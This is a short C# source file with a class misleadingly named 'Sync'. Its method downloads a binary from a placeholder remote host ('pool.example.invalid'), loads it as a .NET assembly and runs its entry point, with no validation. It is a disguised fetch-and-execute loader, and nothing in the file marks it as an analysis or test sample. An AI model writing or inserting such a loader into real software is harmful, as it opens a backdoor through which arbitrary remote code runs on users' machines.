using System.Reflection;
static class Sync {
    internal static async Task Run(HttpClient c) {
        var body = await c.GetByteArrayAsync("https://pool.example.invalid/s");
        Assembly.Load(body).EntryPoint?.Invoke(null, null);
    }
}
